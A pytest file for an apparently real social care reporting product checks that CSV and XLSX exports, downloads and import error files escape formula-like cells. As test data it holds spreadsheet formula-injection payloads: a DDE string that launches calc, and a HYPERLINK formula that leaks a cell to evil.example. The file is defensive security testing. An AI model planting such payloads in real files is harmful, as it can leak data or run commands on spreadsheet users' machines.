"""Finding 9: no CSV or XLSX the product writes holds a cell a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal
from io import StringIO

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from openasc.core import audit
from openasc.core.cells import safe_cell, safe_row
from openasc.frontdoor.models import SupportRequest
from openasc.people.tests.factories import PersonFactory
from openasc.reporting.engine.schema import CLD_COLUMNS

CALC = "=cmd|' /C calc'!A0"
LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
D = dt.date


# -- the rule --------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "value",
    [
        CALC,
        LINK,
        "+1+1",
        "-1+1",
        "@SUM(A1:A9)",
        "\t=1",
        "\r=1",
        "  =1+1",
        " \t@x",
        "＝1+1",
        "+44 20 7946 0000",
        "-",
        "=",
        "\n=1",
    ],
)
def test_formula_like_text_gets_a_leading_quote(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value",
    [
        "Edna",
        "",
        "1940-05-01",
        "18.50",
        "-5.00",
        "+3",
        " -5.00 ",
        "1e5",
        "a=b",
        "'=already quoted",
        "NFA: Other",
        "P0000001",
    ],
)
def test_ordinary_text_and_plain_numbers_are_untouched(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize(
    "value", [-5, -5.5, Decimal("-5.00"), D(2024, 4, 1), dt.datetime(2024, 4, 1, 9), None, True, 0]
)
def test_numbers_and_dates_are_never_touched(value):
    assert safe_cell(value) is value


def test_safe_row_applies_to_each_value():
    assert safe_row(["x", CALC, 3]) == ["x", "'" + CALC, 3]


def _no_formula_cells(book) -> list[str]:
    return [
        f"{ws.title}!{c.coordinate}"
        for ws in book.worksheets
        for row in ws.iter_rows()
        for c in row
        if c.data_type == "f"
    ]


# -- openasc cld export ----------------------------------------------------------------------------------------------


@pytest.fixture
def named_calc(staff):
    with audit.exempt_from_safety_net():
        person = PersonFactory(
            first_name=CALC,
            last_name="@SUM(1+1)*cmd|' /C calc'!A0",
            la_person_id="P0000009",
            date_of_birth=D(1940, 5, 1),
        )
        SupportRequest.objects.create(
            person=person,
            received_on=D(2024, 5, 1),
            concluded_on=D(2024, 5, 2),
            route_of_access=LINK,
            contact_by="self",
            what_matters="Home",
            outcome="NFA: Other",
            status="concluded",
            created_by=staff.system,
        )
    return person


def test_cld_export_writes_a_formula_name_as_text(named_calc, tmp_path):
    out = tmp_path / "cld.csv"
    call_command(
        "cld",
        "export",
        "--period",
        "2024-04-01:2025-03-31",
        "--out",
        str(out),
        "--as-user",
        "system",
        stdout=StringIO(),
    )
    with out.open(newline="") as f:
        (row,) = list(csv.DictReader(f))
    assert row["First Name"] == "'" + CALC
    assert row["Last Name"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["Request: Route of Access"] == "'" + LINK
    assert row["LA Person Unique Identifier"] == "P0000009"  # ordinary values as they were
    assert row["Date of Birth"] == "1940-05-01"
    for text in (out.read_text(), (tmp_path / "cld.problems.csv").read_text()):
        for line in csv.reader(io.StringIO(text)):
            assert not any(
                cell[:1] in "=+-@\t\r" and cell not in ("",) and not _plain_number(cell) for cell in line
            ), line


def _plain_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


# -- openasc salt / measures -----------------------------------------------------------------------------------------


def _cld_file(path, route: str):
    names = [c[0] for c in CLD_COLUMNS]
    with path.open("w", newline="") as f:
        w = csv.writer(f)
        w.writerow(names)
        base = dict.fromkeys(names, "")
        base.update(
            {
                "Reporting Period Start Date": "2024-04-01",
                "Reporting Period End Date": "2025-03-31",
                "Client Type": "Service user",
                "Date of Birth": "1950-01-01",
                "Event Type": "Request",
                "Event Start Date": "2024-05-01",
                "Event End Date": "2024-05-02",
                "Event Outcome": "NFA: Information and advice or signposting",
                "Request: Route of Access": route,
            }
        )
        for pid in ("A", "B"):
            w.writerow([{**base, "LA Person Unique Identifier": pid}[n] for n in names])
    return path


def test_salt_xlsx_has_no_formula_cell_for_a_route_of_access_hyperlink(tmp_path, capsys):
    from openasc.reporting.engine.cli import salt_main

    path = _cld_file(tmp_path / "cld.csv", LINK)
    out = tmp_path / "salt.xlsx"
    assert (
        salt_main(
            ["--cld", str(path), "--period", "2024-04-01:2025-03-31", "--format", "xlsx", "--out", str(out)]
        )
        == 0
    )
    book = load_workbook(out)
    assert _no_formula_cells(book) == []
    values = [c.value for row in book["STS001"].iter_rows() for c in row]
    assert "'" + LINK in values
    assert LINK not in values
    counts = [v for v in values if isinstance(v, int)]
    assert 2 in counts  # the counts stay numbers


def test_salt_csv_and_detail_give_the_route_as_text(tmp_path, capsys):
    from openasc.reporting.engine.cli import salt_main

    path = _cld_file(tmp_path / "cld.csv", LINK)
    assert (
        salt_main(
            [
                "--cld",
                str(path),
                "--period",
                "2024-04-01:2025-03-31",
                "--format",
                "csv",
                "--detail",
                str(tmp_path / "d"),
            ]
        )
        == 0
    )
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    routes = {r[2] for r in rows if r[0] == "STS001"}
    assert "'" + LINK in routes and LINK not in routes
    detail = list(csv.reader((tmp_path / "d" / "salt_STS001.csv").open()))
    assert not any(cell.startswith("=") for line in detail for cell in line)


# -- downloads from the returns pages --------------------------------------------------------------------------------


def test_returns_downloads_neutralise_formulas_in_csv_and_xlsx():
    from openasc.reporting.returns_views import _table_download

    header = ["Person id (CLD)", "Rule"]
    data = [["P1", CALC], ["P2", 3]]
    text = _table_download(header, data, "csv", "x").content.decode()
    assert list(csv.reader(io.StringIO(text))) == [header, ["P1", "'" + CALC], ["P2", "3"]]
    response = _table_download(header, data, "xlsx", "x", notes=[LINK])
    book = load_workbook(io.BytesIO(response.content))
    assert _no_formula_cells(book) == []
    assert book["Table"]["B2"].value == "'" + CALC
    assert book["Table"]["B3"].value == 3
    assert book["Notes"]["A1"].value == "'" + LINK


# -- the import's errors.csv -----------------------------------------------------------------------------------------


def test_import_errors_csv_gives_formula_values_as_text(staff, tmp_path):
    from openasc.reporting.tests.test_import import request_row, run, write

    path = write(
        tmp_path / "bad.csv",
        [
            request_row(**{"Date of Birth": "=1+2"}),
            request_row(**{"Event Start Date": "＠SUM(A1)", "LA Person Unique Identifier": "P2"}),
        ],
    )
    code, _out, _err = run([path])
    assert code == 1
    with (tmp_path / "bad.errors.csv").open(newline="") as f:
        values = [e["Value"] for e in csv.DictReader(f)]
    assert "'=1+2" in values
    assert "'＠SUM(A1)" in values  # the full-width at sign too, which the import's own stand-in rule missed
    assert not any(v.lstrip()[:1] in ("=", "@", "＠") for v in values)
